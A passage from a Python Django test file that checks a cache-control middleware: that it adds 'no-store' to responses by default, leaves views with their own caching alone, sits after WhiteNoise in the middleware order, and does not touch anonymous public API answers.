        assert NoStoreMiddleware(view)(request)["Cache-Control"] == "public, max-age=60"
        plain = NoStoreMiddleware(lambda request: HttpResponse("x"))(request)
        assert "no-store" in plain["Cache-Control"]
        middleware = settings.MIDDLEWARE
        assert middleware.index("whitenoise.middleware.WhiteNoiseMiddleware") \
            < middleware.index("apps.core.no_store.NoStoreMiddleware")

    def test_an_anonymous_answer_is_left_alone(self, casino, table):
        assert Client().get(f"/api/public/{casino.code}/")["Cache-Control"] == "public, max-age=15"
        assert "no-store" not in Client().get("/api/schema/").get("Cache-Control", "")
